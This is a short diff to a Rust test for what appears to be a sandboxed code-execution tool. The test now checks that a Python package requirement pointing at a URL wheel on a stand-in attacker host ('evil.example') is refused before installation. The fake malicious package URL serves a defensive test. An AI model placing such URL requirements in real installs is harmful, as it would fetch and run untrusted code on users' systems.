@@ -430,18 +430,15 @@ async fn drop_in_profiles() {
     .await;
     assert_eq!(r.is_error, Some(true));
     assert_eq!(structured(&r)["returncode"], 4);
+    // A URL requirement is refused before anything is installed.
     let r = call(
         &s,
         "code_exec_python",
-        json!({"code": "print(1)", "packages": ["requests"]}),
+        json!({"code": "print(1)", "packages": ["requests @ https://evil.example/r.whl"]}),
     )
     .await;
     assert_eq!(r.is_error, Some(true));
-    assert!(
-        text(&r).contains("packages") && text(&r).contains("not enabled"),
-        "{}",
-        text(&r)
-    );
+    assert!(text(&r).contains("packages"), "{}", text(&r));
 
     let r = call(&s, "execute", json!({"code": "print('sidecar')"})).await;
     assert_eq!(structured(&r)["stdout"], "sidecar\n", "{}", text(&r));
